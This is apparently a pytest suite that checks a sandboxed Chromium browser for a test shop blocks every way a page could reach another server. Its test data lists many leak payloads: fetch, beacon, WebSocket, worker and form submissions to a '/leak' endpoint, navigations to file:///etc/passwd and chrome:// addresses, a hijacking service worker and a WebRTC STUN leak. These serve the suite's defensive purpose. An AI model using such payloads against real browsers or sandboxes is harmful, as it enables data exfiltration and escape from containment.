"""Nothing gets out of the shop: not by an address, not from inside a page."""

import socket
from collections.abc import Iterator
from html import escape
from typing import Any

import pytest
from flask import Flask, Response, request

from recallreach.env.errors import TransportError
from recallreach.env.transports import ChromiumTransport
from recallreach.env.types import Click, Navigate
from recallreach.storefront.server import ShopServer

pytestmark = pytest.mark.browser


class Elsewhere:
    """Another server on this machine, which must never hear from the browser."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.app = Flask("elsewhere")
        self.app.before_request(lambda: self.heard.append(request.path))
        self.url = ""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    other = Elsewhere()
    with ShopServer(other.app) as running:
        other.url = running.url
        yield other


REQUESTS = {
    "picture": '<img src="{url}/leak">',
    "frame": '<iframe src="{url}/leak"></iframe>',
    "script": '<script src="{url}/leak"></script>',
    "style": '<link rel="stylesheet" href="{url}/leak">',
    "prefetch": '<link rel="prefetch" href="{url}/leak"><link rel="preconnect" href="{url}">',
    "fetch": "<script>fetch('{url}/leak', {{mode: 'no-cors'}}).catch(() => 0)</script>",
    "xhr": "<script>const x = new XMLHttpRequest(); x.open('GET', '{url}/leak'); x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('{url}/leak', 'x')</script>",
    "websocket": "<script>new WebSocket('{url}/leak'.replace('http', 'ws'))</script>",
    "events": "<script>new EventSource('{url}/leak')</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{url}/leak')\"])))</script>",
    "service-worker": "<script>navigator.serviceWorker && "
    "navigator.serviceWorker.register('/inside/sw.js').catch(() => 0)</script>",
    "own-redirect": '<img src="/away-elsewhere"><script>fetch("/away-elsewhere").catch(() => 0)</script>',
    "shared-worker": "<script>new SharedWorker('/inside/worker.js')</script>",
    "import": "<script type='module'>import('{url}/leak').catch(() => 0)</script>",
    "font": "<style>@font-face {{ font-family: f; src: url('{url}/leak') }} p {{ font-family: f }}</style>",
    "object": '<object data="{url}/leak"></object><embed src="{url}/leak">',
    "video": '<video src="{url}/leak" autoplay muted></video>',
    "ping": '<a id="p" href="#x" ping="{url}/leak">x</a><script>p.click()</script>',
    "frame-in-frame": "<iframe srcdoc=\"<img src='{url}/leak'>\"></iframe>",
    "by-name": "<script>fetch('{url}/leak'.replace('127.0.0.1', 'localhost'), {{mode: 'no-cors'}})"
    ".catch(() => 0)</script>",
}
WORKER = "onconnect = () => 0; fetch('{url}/leak', {{mode: 'no-cors'}}).catch(() => 0);"
NAVIGATIONS = {
    "location": "<script>location.href = '{url}/leak'</script>",
    "late-location": "<script>setTimeout(() => {{ location.href = '{url}/leak' }}, 0)</script>",
    "refresh": '<meta http-equiv="refresh" content="0;url={url}/leak">',
    "open": "<script>open('{url}/leak')</script>",
    "form": '<form id="f" action="{url}/leak"></form><script>f.submit()</script>',
    "file": "<script>location.href = 'file:///etc/passwd'</script>",
    "data": "<script>location.href = 'data:text/html,<h1>out</h1>'</script>",
    "view-source": "<script>location.href = 'view-source:' + location.href</script>",
    "chrome": "<script>location.href = 'chrome://version'</script>",
    "devtools": "<script>open('devtools://devtools/bundled/inspector.html')</script>",
    "name": "<script>location.href = 'http://elsewhere.example/leak'</script>",
    "javascript": "<script>location.href = 'javascript:location.replace(\"{url}/leak\")'</script>",
    "link-click": '<a id="a" href="{url}/leak">x</a><script>a.click()</script>',
    "link-to-new-window": '<a id="a" href="{url}/leak" target="_blank">x</a><script>a.click()</script>',
    "data-frame": '<iframe src="data:text/html,<script>top.location=`{url}/leak`</script>"></iframe>',
    "own-redirect": "<script>location.href = '/away-elsewhere'</script>",
    "post": '<form id="f" method="post" action="{url}/leak"></form><script>f.submit()</script>',
    "blob": "<script>location.href = URL.createObjectURL(new Blob(['<h1>out</h1>'], {{type: 'text/html'}}))"
    "</script>",
}
LINKS = {
    "file:///etc/passwd": "file addresses cannot be opened",
    "javascript:document.title='x'": "javascript addresses cannot be opened",
    "data:text/html,<h1>out</h1>": "data addresses cannot be opened",
    "view-source:http://127.0.0.1/": "view-source addresses cannot be opened",
    "devtools://devtools/bundled/inspector.html": "devtools addresses cannot be opened",
    "chrome://version": "chrome addresses cannot be opened",
    "blob:null/1": "blob addresses cannot be opened",
    "ftp://127.0.0.1/x": "ftp addresses cannot be opened",
    "http://elsewhere.example/x": "'elsewhere.example' is not this shop",
    "//elsewhere.example/x": "'elsewhere.example' is not this shop",
    "http://127.0.0.1:1/x": "'127.0.0.1' is not this shop",
    "/away": "leads out of this shop",
    "/away-port": "leads out of this shop",
    "/away-file": "leads out of this shop",
}


def visit(transport: ChromiumTransport, path: str) -> str:
    """Open a page and two more; where the first visit ended: its address, "refused", or "error"."""
    try:
        seen = transport.act(Navigate(path))
        ended = "refused" if seen.message.startswith("Refused: ") else seen.url
    except TransportError:
        ended = "error"
    for _ in range(2):
        assert transport.act(Navigate("/other")).url == "/other"
    return ended


@pytest.fixture(scope="module")
def _seeing_shop(trouble_shop: Any) -> Iterator[tuple[Any, ChromiumTransport]]:
    """A browser that draws its pages, so that it asks for pictures, fonts and films, too."""
    shop = trouble_shop()
    for rule in ("/inside/worker.js", "/inside/sw.js"):
        shop.app.add_url_rule(rule, rule, lambda: Response(shop.worker, mimetype="text/javascript"))
    with ShopServer(shop.app) as running:
        transport = ChromiumTransport(running.url, timeout=5, screenshot="jpeg")
        yield shop, transport
        transport.close()


@pytest.fixture
def seeing(_seeing_shop: tuple[Any, ChromiumTransport]) -> tuple[Any, ChromiumTransport]:
    """That shop and browser, with nothing seen yet and a new session."""
    shop, transport = _seeing_shop
    shop.seen.clear()
    shop.bodies.clear()
    transport.begin()
    return shop, transport


@pytest.mark.parametrize("name", REQUESTS)
def test_no_request_of_a_page_reaches_another_server(
    seeing: tuple[Any, ChromiumTransport], elsewhere: Elsewhere, name: str
) -> None:
    shop, transport = seeing
    shop.elsewhere, shop.worker = elsewhere.url, WORKER.format(url=elsewhere.url)
    shop.bodies["/inside/x"] = REQUESTS[name].format(url=elsewhere.url)
    assert visit(transport, "/inside/x") == "/inside/x"
    assert elsewhere.heard == []


def test_no_service_worker_is_installed(seeing: tuple[Any, ChromiumTransport]) -> None:
    """It would outlive its page and answer for the shop."""
    shop, transport = seeing
    shop.worker = "onfetch = event => event.respondWith(new Response('taken over'))"
    shop.bodies["/inside/x"] = REQUESTS["service-worker"].format(url="")
    visit(transport, "/inside/x")
    assert shop.seen["/inside/sw.js"] == 0


ICE = """async address => {
  const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:' + address}]});
  peer.createDataChannel('x');
  const gathered = new Promise(done => {
    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done();
  });
  await peer.setLocalDescription(await peer.createOffer());
  await gathered;
}"""


def test_no_datagram_of_a_page_reaches_another_server(seeing: tuple[Any, ChromiumTransport]) -> None:
    """WebRTC asks its servers by UDP, which no HTTP proxy stops."""
    _, transport = seeing
    with socket.socket(type=socket.SOCK_DGRAM) as elsewhere:
        elsewhere.bind(("127.0.0.1", 0))
        elsewhere.setblocking(False)
        address = f"127.0.0.1:{elsewhere.getsockname()[1]}"
        driver, worker = transport._driver, transport._worker
        assert driver is not None
        assert worker is not None
        worker.submit(lambda: driver._require_page().evaluate(ICE, address)).result(60)
        with pytest.raises(BlockingIOError):
            elsewhere.recv(2048)


@pytest.mark.parametrize("name", NAVIGATIONS)
def test_no_page_leads_the_shopper_out(
    troubled: Any, troubled_chromium: ChromiumTransport, elsewhere: Elsewhere, name: str
) -> None:
    troubled_chromium.begin()
    troubled.elsewhere = elsewhere.url
    troubled.bodies["/inside/x"] = NAVIGATIONS[name].format(url=elsewhere.url)
    assert visit(troubled_chromium, "/inside/x") in ("/inside/x", "refused")
    assert elsewhere.heard == []


@pytest.mark.parametrize("href", LINKS)
def test_a_click_on_a_way_out_tells_the_shopper_why_not(
    troubled: Any, troubled_chromium: ChromiumTransport, href: str
) -> None:
    troubled_chromium.begin()
    troubled.bodies["/inside/x"] = f'<a href="{escape(href)}">out</a><a href="/other">on</a>'
    before = troubled_chromium.act(Navigate("/inside/x"))
    seen = troubled_chromium.act(Click(0))
    assert LINKS[href] in seen.message
    assert seen.message.startswith("Refused: ")
    assert (seen.url, seen.text) == (before.url, before.text)
    assert troubled_chromium.act(Click(1)).url == "/other"


SILENT = {"service-worker", "own-redirect", "prefetch", "by-name", "object"}
"""Ways that make no request at all, or none that can be counted, even where they are allowed."""


def test_the_pages_of_these_tests_would_reach_the_shop_itself(
    seeing: tuple[Any, ChromiumTransport],
) -> None:
    """The control: the same ways out do work where they are allowed."""
    shop, transport = seeing
    shop.worker = WORKER.format(url="").replace("/leak", "/inside/leak")
    reached = set()
    for name in sorted(REQUESTS.keys() - SILENT):
        shop.seen.clear()
        own = transport.origin.base
        shop.bodies["/inside/x"] = REQUESTS[name].format(url=own).replace("/leak", "/inside/leak")
        visit(transport, "/inside/x")
        reached |= {name} if shop.seen["/inside/leak"] else set()
    assert reached == REQUESTS.keys() - SILENT
